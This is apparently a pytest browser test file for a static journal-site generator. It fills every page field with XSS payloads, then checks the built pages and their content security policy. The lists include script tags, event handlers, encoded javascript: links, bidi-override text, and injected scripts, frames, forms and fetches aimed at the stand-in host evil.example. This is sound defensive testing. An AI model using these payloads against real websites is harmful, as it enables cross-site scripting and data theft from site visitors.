"""Hostile words in every place of a journal, opened: nothing runs, fails, or is asked for.

Each place holds scripts, handlers, addresses in disguise, markup and signs that turn the direction
of writing. The pages' own policy is then tried by putting into a page what should never be there.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from example import DAY, KINDS, SUB_PATH, Example, found_example, kind_of, served
from hostile_notes import hostile_notes
from outside import Open
from playwright.sync_api import Dialog, Page
from test_every_page import watched
from written import some

from milepost.building import build
from milepost.journal.words import Visibility
from milepost.pipeline import open_journal
from milepost.publish.output import publish
from milepost.site.theme import shipped_themes

pytestmark = pytest.mark.browser

HOSTILE = (
    "<script>alert(1)</script>",
    "</title></style></textarea><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    '"><svg onload=alert(4)>',
    "' onmouseover='alert(5)' autofocus onfocus='alert(5)'",
    "<iframe srcdoc='<script>alert(6)</script>'></iframe>",
    "<form action=https://evil.example/><input autofocus onfocus=alert(7)></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "{{ 7 * 7 }} {% raw %} ${alert(8)}",
    "--></script><script>alert(9)</script><!-",
    "\u202egnp.exe\u202c \u2066x\u2069 \u200f",
    "]]></content><script>alert(10)</script>",
    "&#60;script&#62;alert(11)&#60;/script&#62;",
)
LINKS = (
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#115;cript:alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](&#1;javascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](%6aavascript:alert(1))",
    "[a](vbscript:x) [a](data:text/html,<script>alert(1)</script>)",
    "[a](<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>)",
    "[a](//evil.example/x) [a](\\\\evil.example\\x) [a](https:evil.example)",
    "![a](https://evil.example/x.png) ![a](//evil.example/x.png) ![a](data:image/svg+xml,<svg/>)",
    '![a](javascript:alert(1)) <javascript:alert(1)> <https://evil.example/?">',
    "[[javascript:alert(1)]] [[https://evil.example/|<b onclick=alert(1)>]]",
    "![[//evil.example/x.png]] ![[https://evil.example/x.png|x]]",
    '![a](bad.svg "\' onerror=\'alert(1)") [a](bad.svg) ![[bad.svg|" onload=alert(1)]]',
    "[a]: javascript:alert(1)\n\n[a] [b][a]",
    "```<script>\n<script>alert(1)</script>\n```",
    "> [!<script>] <img src=x onerror=alert(1)>\n> <svg onload=alert(1)>",
    "::: <script>alert(1)</script>\nx\n:::",
    '| <script>alert(1)</script> | " onclick=alert(1) |\n|:--|--:|\n| <svg onload=alert(1)> | b |',
    '## <script>alert(1)</script> " onclick=alert(1)',
    "x[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>",
)
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script>'
    '<image href="https://evil.example/x.png"/></svg>'
)


def _value(text: str) -> str:
    """A value of YAML that is this text, letter for letter."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def write(root: Path, theme: str) -> None:
    """A journal with hostile words in every place."""
    text = [_value(hostile) for hostile in HOSTILE]
    body = "\n\n".join((*LINKS, *HOSTILE))
    every = ", ".join(text)
    files = {
        "milepost.yaml": f"title: {text[1]}\ntheme: {theme}\nareas: [{text[0]}]\n"
        f"url: https://a.example{SUB_PATH}\nlanguage: {text[3]}\ntimezone: {text[2]}\n",
        "content/profile.md": f"---\nname: {text[0]}\ntheme: {text[2]}\nvalues: [{every}]\n"
        f"areas: [{every}]\nbudget: {text[4]}\n"
        f"skills: [{{skill: {text[0]}, level: 2, evidence: {text[2]}}}]\n"
        f"strengths: [{every}]\npersonality: {text[0]}\nvisibility: public\n---\n{body}\n",
        "content/reviews/2026-10.md": f"---\ntitle: {text[4]}\nvisibility: public\n---\n{body}\n",
        "content/reviews/2026-Q3.md": f"---\ntitle: {text[3]}\nvisibility: public\n---\n{body}\n",
        "content/pages/bad.svg": SVG,
        "content/goals/bad.svg": SVG,
        "content/journal/bad.svg": SVG,
    }
    for number, value in enumerate(text):
        files[f"content/log/r{number}.md"] = f"""---
kind: {("feedback", "certificate", "mentor", "setback", "win")[number % 5]}
title: {value}
date: 2026-11-{number + 1:02d}
from: {value}
about: {value}
because: {value}
plan: {value}
skills: [{value}]
visibility: public
---
{HOSTILE[number]}
"""
        files[f"content/goals/g{number}.md"] = f"""---
title: {value}
specific: {value}
area: {value}
tags: [{value}]
measurable: {{kind: count, to: 9, unit: {value}}}
achievable: {{needs: {value}, because: {value}, hours_per_week: 1, money: 20 EUR}}
requires: [{{skill: {value}, level: 4}}]
relevant: {{values: [{value}]}}
time_bound: 2026-01-05 to 2027-06-30
milestones: [{{title: {value}, due: 2026-12-24}}]
obstacles: [{{if: {value}, then: {value}}}]
support: [{value}]
reward: {value}
readings: [{{date: 2026-09-01, value: +2, note: {value}}}]
changes: [{{date: 2026-04-01, title: {value}, because: {value}}}]
visibility: public
---
{body if not number else HOSTILE[number]}
"""
        files[f"content/pages/p{number}.md"] = (
            f"---\ntitle: {value}\ntags: [{value}]\nvisibility: public\n---\n{body}\n"
        )
    files["content/journal/2026-W46.md"] = f"""---
title: {text[3]}
tags: [{every}]
areas: {{{text[0]}: 7}}
progress: {{g0: {{value: +1, note: {text[2]}}}}}
visibility: public
---
## Plans
- [ ] {HOSTILE[2]}

## Feedback
- {HOSTILE[2]}: {HOSTILE[4]}; plan: {HOSTILE[0]}

{body}
"""
    for path, content in files.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(content, "utf-8")
    # All that people write in notes, each with whatever does not belong there.
    notes = hostile_notes()
    (root / "content/pages/x.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    for number in range(0, len(notes), 80):
        some = "\n\n".join(notes[number : number + 80])
        (root / f"content/pages/notes{number}.md").write_text(some, "utf-8")
    # A name with markup in it, where the disk takes it.
    (root / "content/pages/<img src=x onerror=alert(1)>.md").write_text(body, "utf-8")


@pytest.fixture(params=shipped_themes(), scope="module")
def hostile(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Example, str]]:
    """The hostile journal as a site in each theme, and its address on a server."""
    root = tmp_path_factory.mktemp("hostile")
    write(root, request.param)
    made = build(open_journal(root), DAY, Visibility.PRIVATE, f"https://a.example{SUB_PATH}")
    publish(made.pages, root / "_site")
    with served(root / "_site") as address:
        yield found_example(root / "_site"), address


def _alarms(page: Page, address: str) -> list[str]:
    wrong = watched(page, address)

    def told(dialog: Dialog) -> None:
        wrong.append(f"says {dialog.message}")
        dialog.dismiss()

    page.on("dialog", told)
    return wrong


def test_hostile_words_do_nothing_on_any_kind_of_page(
    hostile: tuple[Example, str], opened: Open
) -> None:
    site, address = hostile
    kinds = {kind_of(name) for name in site.pages}
    assert kinds == set(KINDS)
    page = opened().new_page()
    wrong = _alarms(page, address)
    notes = tuple(name for name in site.of_kind("page") if name.startswith("notes"))
    assert len(notes) > len(hostile_notes()) // 80
    for kind in some(sorted(kinds)):
        for name in dict.fromkeys((*site.of_kind(kind)[:2], *(notes if kind == "page" else ()))):
            page.goto(address + name)
            # What a hand may set off: each thing that can have the focus or the pointer.
            page.evaluate(
                "document.querySelectorAll('main *').forEach(it => "
                "it.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})))"
            )
            page.evaluate("document.querySelectorAll('a, input').forEach(it => it.focus())")
            handlers = page.evaluate(
                "[...document.querySelectorAll('*')].flatMap(it => [...it.attributes])"
                ".filter(it => /^on/i.test(it.name)).length"
            )
            schemes = page.evaluate(
                "[...document.querySelectorAll('[href], [src]')].map(it => it.href || it.src)"
                ".filter(it => /^(javascript|vbscript|data):/i.test(it))"
            )
            foreign = page.locator(
                "iframe, object, embed, form[action], base, meta[http-equiv=refresh]"
            )
            wrong += [f"{name}: {handlers} handlers"] * bool(handlers) + schemes
            wrong += [f"{name}: foreign elements"] * bool(foreign.count())
    assert not wrong, "\n".join(wrong)


INJECTED = {
    "a script": (
        "const it = document.createElement('script'); it.textContent = 'window.ran = 1';"
        "document.body.append(it)"
    ),
    "a handler": (
        "document.body.insertAdjacentHTML('beforeend',"
        "'<button id=it onclick=\"window.ran = 1\">');"
        "document.getElementById('it').click()"
    ),
    "a script from elsewhere": (
        "const it = document.createElement('script'); it.src = 'https://evil.example/a.js';"
        "document.body.append(it)"
    ),
    "a picture from elsewhere": "new Image().src = 'https://evil.example/a.png'",
    "a style from elsewhere": (
        "document.head.insertAdjacentHTML('beforeend',"
        "'<link rel=stylesheet href=https://evil.example/a.css>')"
    ),
    "a frame": (
        "document.body.insertAdjacentHTML('beforeend', '<iframe src=https://evil.example/>')"
    ),
    "a request": "fetch('https://evil.example/').catch(() => 0)",
    "a form": (
        "document.body.insertAdjacentHTML('beforeend',"
        "'<form id=it action=https://evil.example/></form>');"
        "document.getElementById('it').submit()"
    ),
}


@pytest.mark.parametrize("what", INJECTED)
def test_what_gets_into_a_page_all_the_same_is_stopped_by_its_policy(
    what: str, hostile: tuple[Example, str], opened: Open
) -> None:
    _, address = hostile
    page = opened().new_page()
    page.route("https://evil.example/**", lambda route: route.fulfill(body="window.ran = 1"))
    reached: list[str] = []
    page.on("response", lambda got: reached.append(got.url))
    page.goto(address)
    stopped = page.evaluate(
        "() => new Promise(done => {"
        "document.addEventListener('securitypolicyviolation', it => done(it.effectiveDirective));"
        f"setTimeout(() => done(''), 10000); {INJECTED[what]} }})"
    )
    assert stopped
    assert page.evaluate("window.ran") is None
    assert not [url for url in reached if "evil" in url]


def test_a_picture_with_a_script_in_it_is_only_a_picture(
    hostile: tuple[Example, str], opened: Open
) -> None:
    site, address = hostile
    page = opened().new_page()
    wrong = _alarms(page, address)
    shown = 0
    for name in site.pages:
        text = (site.folder / name).read_text("utf-8")
        assert "<svg onload" not in text
        shown += "bad.svg" in text and "<img" in text
    assert shown
    page.goto(address + next(n for n in site.pages if "bad.svg" in (site.folder / n).read_text()))
    page.wait_for_load_state("networkidle")
    assert not wrong, "\n".join(wrong)
